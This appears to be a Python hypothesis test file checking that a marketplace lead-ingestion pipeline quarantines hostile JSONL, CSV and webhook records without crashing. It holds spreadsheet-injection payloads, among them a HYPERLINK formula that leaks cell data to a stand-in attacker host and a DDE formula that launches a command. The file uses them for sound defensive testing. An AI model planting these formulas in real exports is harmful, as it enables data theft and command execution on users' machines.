"""Hostile input never stops the pipeline (hypothesis).

Every source that reads text — a JSON-lines file, a Partner Center CSV export, the HTTPS
webhook — is fed generated hostile records beside good leads: JSON nested past every
parser's limit at any field, JSON nested that deep inside a string, control characters,
spreadsheet formulas, huge strings, lone surrogates and bytes that are not UTF-8, look-alike
addresses. Whatever comes in: no exception escapes, every good lead becomes a lead, every
hostile record is either quarantined with its reason or processed harmlessly, nothing is
left unprocessed, nothing needs the pipeline's last-resort `unprocessable` catch-all, and
a file's cursor moves past all of it. (The Azure Table source is tested against Azurite.)
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from werkzeug.test import Client

from leadbridge.connectors.marketplace.file import LeadsFileConfig, LeadsFileSource
from leadbridge.connectors.marketplace.https import MarketplaceHttpsConfig, MarketplaceHttpsSource
from leadbridge.core.app.http_app import App
from leadbridge.core.ingest import pipeline
from leadbridge.core.settings import Settings, load_settings
from leadbridge.core.store.repo import Store

LEAD_SOURCE = "AzureMarketplace-INS|contoso.app"
TOKEN = "0123456789abcdefTOKEN"
# Reasons a record is quarantined for what it is; `unprocessable` (the catch-all for a
# failure nobody foresaw) must never be needed for any of these inputs.
EXPECTED_REASONS = {"malformed", "test", "invalid_email"}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
]
LOOKALIKES = ["ａlice@contoso.com", "alice@аpple.com", "alice@xn--80ak6aa92e.com"]
NOT_UTF8 = "\udcff\udcfe"  # written with surrogateescape: the raw bytes ff fe


def _deep(depth: int) -> str:
    return "[" * depth + "]" * depth


def _quoted(text: str) -> str:
    """A JSON string literal; its escapes keep lone surrogates as \\udXXX text."""
    return json.dumps(text)


control_text = st.text(st.characters(categories=["Cc"]), min_size=1, max_size=12)
huge_sizes = st.sampled_from([2_000, 40_000, 200_000])
depths = st.integers(min_value=200, max_value=1_100)

# Raw JSON text for one field's value.
json_fragments = st.one_of(
    depths.map(_deep),  # nested structure where a value belongs
    depths.map(lambda d: _quoted('{"a":' + _deep(d) + "}")),  # nested JSON inside a string
    control_text.map(lambda t: _quoted(f"Ada{t}Lovelace")),
    st.sampled_from(FORMULAS).map(_quoted),
    huge_sizes.map(lambda n: _quoted("A" * n)),
    st.sampled_from(['"\\ud800"', '"Ada\\udfff"', '"\\ud83d"']),  # lone surrogate escapes
    st.just(f'"Ada{NOT_UTF8}"'),
    st.sampled_from(LOOKALIKES).map(_quoted),
    st.sampled_from(["NaN", "1" + "0" * 5_000, "1e999", "{}", "[]", "null", "true"]),
)
# Cell text for one CSV field.
csv_cells = st.one_of(
    depths.map(lambda d: '{"a":' + _deep(d) + "}"),
    control_text.map(lambda t: f"Ada{t}Lovelace"),
    st.sampled_from(FORMULAS),
    huge_sizes.map(lambda n: "A" * n),  # 200,000 is over csv's own field limit
    st.just(f"Ada{NOT_UTF8}"),
    st.sampled_from(LOOKALIKES),
)
FIELDS = ["LeadSource", "OfferTitle", "Description", "Email", "FirstName", "Company", "X"]
hostile_json = st.dictionaries(st.sampled_from(FIELDS), json_fragments, min_size=1, max_size=3)
hostile_rows = st.dictionaries(st.sampled_from(FIELDS[:-1]), csv_cells, min_size=1, max_size=3)
# None is a good lead; the first and the last record are always good ones.
mixes = st.lists(st.none() | hostile_json, min_size=1, max_size=8)
csv_mixes = st.lists(st.none() | hostile_rows, min_size=1, max_size=8)


def _good(i: int) -> dict[str, str]:
    return {"LeadSource": LEAD_SOURCE, "Email": f"good{i}@contoso.com", "FirstName": "Good"}


def _jsonl(i: int, hostile: dict[str, str] | None) -> str:
    """One record as JSON text: a good lead, or one whose fields hold hostile fragments."""
    values = {
        "LeadSource": _quoted(LEAD_SOURCE),
        "OfferTitle": _quoted("Contoso App"),
        "Description": _quoted("call me"),
        "Email": _quoted(f"hostile{i}@evil.example"),
        "FirstName": _quoted("Mallory"),
        "Company": _quoted("Evil Corp"),
        "X": "1",
    }
    if hostile is None:
        values |= {k: _quoted(v) for k, v in _good(i).items()}
    else:
        values |= hostile
    person = ",".join(f'"{k}":{values[k]}' for k in ("Email", "FirstName", "Company"))
    top = ",".join(f'"{k}":{values[k]}' for k in ("LeadSource", "OfferTitle", "Description", "X"))
    return f'{{{top},"UserDetails":{{{person}}}}}'


def _records(mix: list[Any]) -> tuple[list[Any], list[str]]:
    records = [None, *mix, None]
    good = [f"good{i}@contoso.com" for i, record in enumerate(records) if record is None]
    return records, good


def _store(tmp: Path) -> tuple[Store, Settings]:
    settings_ = load_settings(None, store=f"sqlite:///{tmp / 'lb.db'}")
    return Store(settings_.store), settings_


def _assert_outcome(store: Store, good: list[str]) -> None:
    with store.connect() as conn:
        statuses = [r.status for r in conn.exec_driver_sql("SELECT status FROM raw_leads")]
        quarantined = list(conn.exec_driver_sql("SELECT reason, message, fix FROM quarantine"))
        emails = {r.email for r in conn.exec_driver_sql("SELECT email FROM leads")}
    assert "new" not in statuses  # every landed record was processed or quarantined
    assert set(good) <= emails  # every good lead became a lead
    assert statuses.count("quarantined") == len(quarantined)
    for reason, message, fix in quarantined:
        assert reason in EXPECTED_REASONS, (reason, message)
        assert message and fix


HYPOTHESIS = settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@HYPOTHESIS
@given(mix=mixes)
def test_jsonl_file(tmp_path_factory: Any, mix: list[Any]) -> None:
    tmp = tmp_path_factory.mktemp("jsonl")
    records, good = _records(mix)
    text = "\n".join(_jsonl(i, record) for i, record in enumerate(records)) + "\n"
    path = tmp / "leads.jsonl"
    path.write_bytes(text.encode("utf-8", "surrogateescape"))
    store, settings_ = _store(tmp)
    source = LeadsFileSource(LeadsFileConfig(name="f", path=path))
    try:
        report = pipeline.ingest(source, store, settings_)
        assert report.fetched == len(records)
        assert pipeline.ingest(source, store, settings_).fetched == 0  # the cursor moved past
        _assert_outcome(store, good)
    finally:
        store.dispose()


HEADER = ["Lead Source", "Offer Title", "Description", "Email Address", "First Name", "Company"]


def _csv_row(i: int, hostile: dict[str, str] | None) -> list[str]:
    row = {
        "LeadSource": LEAD_SOURCE,
        "OfferTitle": "Contoso App",
        "Description": "call me",
        "Email": f"hostile{i}@evil.example",
        "FirstName": "Mallory",
        "Company": "Evil Corp",
    }
    row |= _good(i) if hostile is None else hostile
    return [row[k] for k in FIELDS[:-1]]


@HYPOTHESIS
@given(mix=csv_mixes)
def test_csv_export(tmp_path_factory: Any, mix: list[Any]) -> None:
    tmp = tmp_path_factory.mktemp("csv")
    records, good = _records(mix)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerows(_csv_row(i, record) for i, record in enumerate(records))
    path = tmp / "export.csv"
    path.write_bytes(out.getvalue().encode("utf-8", "surrogateescape"))
    store, settings_ = _store(tmp)
    source = LeadsFileSource(LeadsFileConfig(name="f", path=path))
    try:
        pipeline.ingest(source, store, settings_)
        assert pipeline.ingest(source, store, settings_).fetched == 0
        _assert_outcome(store, good)
    finally:
        store.dispose()


@HYPOTHESIS
@given(mix=mixes)
def test_https_webhook(tmp_path_factory: Any, mix: list[Any]) -> None:
    tmp = tmp_path_factory.mktemp("webhook")
    records, good = _records(mix)
    store, settings_ = _store(tmp)
    source = MarketplaceHttpsSource(MarketplaceHttpsConfig(name="hook", token=TOKEN))
    http = Client(App(store, [source], []))
    try:
        for i, record in enumerate(records):
            body = _jsonl(i, record).encode("utf-8", "surrogateescape")
            response = http.post(
                f"/marketplace/leads/{TOKEN}", data=body, content_type="application/json"
            )
            assert response.status_code in (202, 400), response.get_data(as_text=True)
            if response.status_code == 400:
                assert response.json["kept"] is True and response.json["error"]
        with store.connect() as conn:
            landed = conn.exec_driver_sql("SELECT count(*) FROM raw_leads").scalar_one()
        assert landed == len({_jsonl(i, r) for i, r in enumerate(records)})  # every body kept
        pipeline.process_pending(store, settings_)
        _assert_outcome(store, good)
    finally:
        store.dispose()
